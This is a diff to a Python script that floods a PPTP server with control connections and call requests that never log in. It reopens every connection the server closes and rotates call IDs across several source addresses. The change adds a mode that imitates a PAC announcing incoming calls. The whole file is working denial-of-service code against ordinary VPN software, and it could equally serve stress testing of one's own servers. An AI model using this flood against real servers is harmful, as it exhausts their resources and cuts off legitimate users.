@@ -20,32 +20,37 @@ def is_over():
     return select.select([sys.stdin], [], [], 0)[0]
 
 
-def ask_one(controls, server, source, call_id):
+def ask_one(controls, server, source, request):
     """One more connection with a call, whatever the answer is"""
     control = Control(server, source=source)
     controls.append(control)
-    control.send(pptp.sccrq() + pptp.ocrq(call_id))
+    control.send(pptp.sccrq() + request)
 
 
-def calls(server, number, *sources):
+def calls(server, number, *sources, request=pptp.ocrq):
     """Each source asks for so many calls, and for one more again and again, none of
     which ever logs in. What the server closes is opened anew."""
     controls = []
     for call_id in range(1, number + 1):
         for source in sources:
-            ask_one(controls, server, source, call_id)
+            ask_one(controls, server, source, request(call_id))
     print("there", flush=True)
     call_id = number
     while not is_over():
         call_id = call_id % 60000 + 1
         for source in sources:
             try:
-                ask_one(controls, server, source, call_id)
+                ask_one(controls, server, source, request(call_id))
             except OSError:
                 pass
         while len(controls) > 2 * number * len(sources):
             controls.pop(0).close()
         time.sleep(PACE)
+
+
+def announced(server, number, *sources):
+    """The same as a PAC that announces callers, and connects none."""
+    calls(server, number, *sources, request=pptp.icrq)
 
 
 def connections(server, number, *sources):
@@ -63,7 +68,7 @@ def connections(server, number, *sources):
         time.sleep(PACE)
 
 
-PARTS = {part.__name__: part for part in (calls, connections)}
+PARTS = {part.__name__: part for part in (calls, announced, connections)}
 
 if __name__ == "__main__":
     PARTS[sys.argv[1]](sys.argv[2], int(sys.argv[3]), *sys.argv[4:])
